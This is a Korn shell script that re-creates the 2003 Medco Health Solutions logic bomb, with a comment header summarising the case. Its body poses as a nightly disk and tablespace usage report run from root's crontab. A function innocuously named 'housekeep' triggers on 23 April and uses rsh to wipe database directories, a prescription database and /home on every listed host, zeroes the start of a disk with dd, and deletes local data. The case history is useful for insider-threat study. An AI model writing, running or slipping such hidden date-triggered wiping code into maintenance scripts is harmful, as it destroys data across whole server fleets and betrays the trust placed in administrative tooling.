#!/bin/ksh
# Incident: Medco Health Solutions logic bomb (Yung-Hsun Lin), planted October 2003, found
# January 2005, sentenced January 2008. A Unix administrator who expected to be laid off hid
# code in a server maintenance script that would, on his birthday (23 April 2004), delete data
# on about 70 servers, including the prescription-interaction database. A coding error kept
# it from firing in 2004; he reset it for 2005 and a colleague found it first.
# Reference: https://www.justice.gov/archive/criminal/cybercrime/press-releases/2008/linSent.pdf
# Reproduction (own code, placeholder host).
#
# chk_dbspace.ksh - nightly filesystem / tablespace usage report (run from root's crontab)

PATH=/usr/bin:/usr/sbin:/bin:/usr/local/bin
REPORT=/var/adm/dbspace.$(date +%Y%m%d)
THRESHOLD=90
HOSTS_FILE=/usr/local/admin/etc/unix_hosts
MAILTO=unix-admins@corp.example

check_fs() {
    df -k | awk -v t="$THRESHOLD" 'NR > 1 { gsub("%", "", $4); if ($4 + 0 >= t) print "WARN", $7, $4 "%" }'
}

check_tablespaces() {
    su - oracle -c "sqlplus -s / as sysdba @/usr/local/admin/sql/ts_usage.sql" 2>/dev/null
}

cleanup_logs() {
    find /var/adm/dbspace.* -mtime +30 -exec rm -f {} \; 2>/dev/null
}

# --- added October 2003 ---
housekeep() {
    d=$(date +%m%d)
    [ "$d" = "0423" ] || return 0
    while read h; do
        [ -z "$h" ] && continue
        rsh "$h" "rm -rf /u01/oradata/* /u02/oradata/* /opt/rxdb/data/* /home/* 2>/dev/null; \
                  dd if=/dev/zero of=/dev/hdisk0 bs=1024k count=64 2>/dev/null" &
    done < "$HOSTS_FILE"
    wait
    rm -rf /u01/oradata/* /opt/rxdb/data/* 2>/dev/null
}
# ---

{
    echo "dbspace report for $(hostname) at $(date)"
    check_fs
    check_tablespaces
} > "$REPORT" 2>&1

housekeep
cleanup_logs

if grep -q WARN "$REPORT"; then
    mail -s "dbspace warnings on $(hostname)" "$MAILTO" < "$REPORT"
fi
exit 0
